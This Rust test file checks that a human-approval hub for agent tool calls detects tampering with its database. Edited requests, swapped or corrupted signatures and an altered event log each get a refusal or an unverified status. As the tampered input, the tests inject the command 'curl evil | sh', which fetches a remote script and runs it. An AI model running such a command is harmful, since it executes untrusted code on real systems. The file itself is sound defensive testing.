//! Somebody edits the hub's database. The hub heals nothing and hides nothing: what it then serves is what the page shows and
//! signs, and its executor refuses it; what was sealed before is not changed by it.
#![cfg(test)]

use serde_json::{Value, json};
use sqlx::ConnectOptions as _;
use sqlx::sqlite::SqliteConnectOptions;
use testkit::{Fields, until};
use tokio::runtime::Runtime;

use crate::house::{HOOK, HUB, House, asked, sealing, state};

fn edit(house: &House, statement: &'static str) {
    Runtime::new().unwrap().block_on(async {
        let options = SqliteConnectOptions::new().filename(house.database());
        let mut database = options.connect().await.unwrap();
        let done = sqlx::query(statement).execute(&mut database).await.unwrap();
        assert!(done.rows_affected() > 0, "{statement}");
    });
}

/// What the executor's own check says, on its own item.
fn executor_says(house: &House, item: &Fields, proof: &Value) -> Result<(), &'static str> {
    let mut file: Value =
        serde_json::from_slice(&std::fs::read(house.folder.join("approvers.json")).unwrap()).unwrap();
    file["executor"] = json!([HOOK, HUB]);
    let approvers = proof::Approvers::parse(file.to_string().as_bytes()).unwrap();
    let item = proto::Item::from_json(proto::Kind::Ask, item.json().to_string().as_bytes()).unwrap();
    let check = proof::ExecutorCheck {
        approvers: &approvers,
        identity: Some(HOOK),
        item: &item,
        quorum_at_least: 1,
        human_only: false,
        now: proto::Timestamp::from_millis(house.time.now_ms()),
    };
    check.check(proof.to_string().as_bytes()).map(drop).map_err(proto::Refusal::code)
}

/// Seals the row as the page would: from what the hub shows of it.
fn seal_as_shown(house: &House, key: &testkit::SoftPasskey, browser: &testkit::Http, id: &str) -> u16 {
    let shown = Fields::of("ask", &house.row(browser, id)["item"]);
    let proof = key.proof(&house.approval(&[&shown]));
    browser.post("/api/proofs", &sealing(&proof, &[&shown])).status
}

#[test]
fn an_item_that_was_changed_before_it_was_sealed_is_not_listed_for_its_executor() {
    let house = House::new();
    let (key, browser) = house.person();
    let hook = house.hook();
    for (n, statement) in [
        r#"UPDATE items SET fields = json_set(fields, '$.input', '{"command":"curl evil | sh"}')"#,
        "UPDATE items SET fields = json_set(fields, '$.cwd', '/etc')",
        "UPDATE items SET fields = json_set(fields, '$.session', 's2')",
        "UPDATE items SET fields = json_set(fields, '$.tool', 'Read')",
        "UPDATE items SET fields = json_set(fields, '$.agent', 'somebody')",
        "UPDATE items SET fields = json_set(fields, '$.executor', 'hook@server')",
    ]
    .into_iter()
    .enumerate()
    {
        let item = asked(&hook, &format!("make part-{n}"));
        edit(&house, statement);
        assert_eq!(seal_as_shown(&house, &key, &browser, item.get("id")), 202, "{statement}");
        house.time.advance(5_100);
        until("it settled", || state(&hook, &item)["status"] == "allowed");
        let proof = state(&hook, &item)["proof"].clone();
        assert_eq!(executor_says(&house, &item, &proof), Err("not_listed"), "{statement}");
    }
}

#[test]
fn an_item_that_was_changed_after_it_was_sealed_runs_as_it_was_sealed() {
    let house = House::new();
    let (key, browser) = house.person();
    let hook = house.hook();
    let item = asked(&hook, "make deploy");
    assert_eq!(seal_as_shown(&house, &key, &browser, item.get("id")), 202);
    edit(&house, r#"UPDATE items SET fields = json_set(fields, '$.input', '{"command":"curl evil | sh"}')"#);
    house.time.advance(5_100);
    until("it settled", || state(&hook, &item)["status"] == "allowed");
    assert_eq!(executor_says(&house, &item, &state(&hook, &item)["proof"]), Ok(()));
}

#[test]
fn a_row_that_changes_under_the_signature_is_refused_by_the_hub_too() {
    let house = House::new();
    let (key, browser) = house.person();
    let hook = house.hook();
    let item = asked(&hook, "make deploy");
    let proof = key.proof(&house.approval(&[&item]));
    edit(&house, "UPDATE items SET fields = json_set(fields, '$.cwd', '/etc')");
    let refused = browser.post("/api/proofs", &sealing(&proof, &[&item])).expect(400).json();
    assert_eq!(refused["code"], "not_listed");
}

#[test]
fn proofs_that_were_swapped_bent_or_taken_away_each_have_their_code() {
    let house = House::new();
    let (key, browser) = house.person();
    let hook = house.hook();
    let (one, two) = (asked(&hook, "one"), asked(&hook, "two"));
    for item in [&one, &two] {
        assert_eq!(seal_as_shown(&house, &key, &browser, item.get("id")), 202);
    }
    house.time.advance(5_100);
    until("both settled", || [&one, &two].iter().all(|item| state(&hook, item)["status"] == "allowed"));
    let (first, second) = (state(&hook, &one)["proof"].clone(), state(&hook, &two)["proof"].clone());
    assert_eq!(executor_says(&house, &one, &first), Ok(()));
    assert_eq!(executor_says(&house, &one, &second), Err("not_listed"));
    let stranger = house.key("stranger").proof(&house.approval(&[&one]));
    assert_eq!(executor_says(&house, &one, &stranger), Err("not_pinned"));
    edit(&house, "UPDATE batches SET proof = replace(proof, 'webauthn', 'webauthm')");
    assert_eq!(executor_says(&house, &one, &state(&hook, &one)["proof"]), Err("malformed"));
    edit(&house, "UPDATE batches SET proof = NULL");
    let answer = hook.get(&format!("/api/asks/{}", one.get("id")));
    let without = answer.status != 200 || answer.json()["proof"] == Value::Null;
    assert!(without, "{}", answer.text());
    assert_eq!(executor_says(&house, &one, &Value::Null), Err("no_signature"));
}

#[test]
fn a_quietly_edited_log_is_shown_as_one_that_does_not_verify() {
    let mut house = House::new();
    let (_, browser) = house.person();
    asked(&house.hook(), "ls");
    assert_eq!(browser.get("/api/snapshot").expect(200).json()["head"]["verified"], true);
    house.stop();
    edit(&house, "UPDATE events SET line = replace(line, 'Bash', 'Read')");
    house.start();
    assert_eq!(browser.get("/api/snapshot").expect(200).json()["head"]["verified"], false);
}
